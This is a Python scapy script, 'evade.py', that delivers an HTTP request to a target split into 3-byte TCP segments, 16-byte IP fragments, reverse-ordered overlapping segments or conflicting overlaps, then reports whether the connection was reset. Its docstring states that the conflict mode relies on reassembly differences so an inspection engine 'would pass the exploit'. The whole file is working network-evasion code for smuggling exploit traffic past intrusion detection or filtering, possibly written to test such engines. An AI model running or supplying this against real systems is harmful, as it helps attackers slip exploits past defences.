#!/usr/bin/python3
"""Send an HTTP request to DST:PORT with scapy, split into tiny TCP segments or IP fragments.
Modes:
  segments   3-byte segments in order
  fragments  one segment cut into 16-byte IP fragments (the first one splits the TCP header)
  overlap    6-byte segments advancing 3 bytes (every byte sent twice, consistently), sent in
             reverse order so the receiver gets the end of the request first
  conflict   every 4-byte piece first with the real bytes, then again as 'xxxx' (inconsistent
             overlaps: Linux keeps the first copy, so an engine that judged the last copy would
             pass the exploit)
Prints 'RST' if the connection was reset, 'OK' if data came back, 'NONE' otherwise.
usage: evade.py DST PORT MODE REQUEST_FILE"""
import sys, random, threading
from scapy.all import IP, TCP, Raw, sr1, send, fragment, conf, sniff, AsyncSniffer
import time
conf.verb = 0
dst, port, mode, reqfile = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
req = open(reqfile, 'rb').read()
sport = random.randint(20000, 60000)
ip = IP(dst=dst)
syn = ip / TCP(sport=sport, dport=port, flags='S', seq=1000)
synack = sr1(syn, timeout=3)
if synack is None or not synack.haslayer(TCP):
    print('NOSYNACK'); sys.exit(0)
ack = synack[TCP].seq + 1
seq = 1001
send(ip / TCP(sport=sport, dport=port, flags='A', seq=seq, ack=ack))
# the sniffer opens its socket (and compiles its filter with tcpdump) in its own thread: send
# nothing before it listens, or a reset answering the first packets is missed
listening = threading.Event()
# on the interface the route to DST takes: conf.iface is lo in a namespace without a default
# route, where the sniffer saw nothing (every run printed NONE, resets or not)
iface = conf.route.route(dst)[0]
sn = AsyncSniffer(iface=iface, filter=f'tcp and src host {dst} and src port {port} and dst port {sport}', store=True,
                  started_callback=listening.set)
sn.start()
listening.wait(10)
time.sleep(0.05)
if mode == 'segments':
    for i in range(0, len(req), 3):
        send(ip / TCP(sport=sport, dport=port, flags='PA', seq=seq + i, ack=ack) / Raw(req[i:i + 3]))
elif mode == 'overlap':
    for i in reversed(range(0, len(req), 3)):
        send(ip / TCP(sport=sport, dport=port, flags='PA', seq=seq + i, ack=ack) / Raw(req[i:i + 6]))
elif mode == 'conflict':
    for i in range(0, len(req), 4):
        piece = req[i:i + 4]
        send(ip / TCP(sport=sport, dport=port, flags='PA', seq=seq + i, ack=ack) / Raw(piece))
        send(ip / TCP(sport=sport, dport=port, flags='PA', seq=seq + i, ack=ack) / Raw(b'x' * len(piece)))
else:
    pkt = ip / TCP(sport=sport, dport=port, flags='PA', seq=seq, ack=ack) / Raw(req)
    for f in fragment(pkt, fragsize=16):
        send(f)
time.sleep(2.5)
got = sn.stop()
flags = [str(p[TCP].flags) for p in got if p.haslayer(TCP)]
data = any(len(bytes(p[TCP].payload)) > 0 for p in got if p.haslayer(TCP))
print('RST' if any('R' in f for f in flags) else 'OK' if data else 'NONE', flags, 'SPORT', sport)
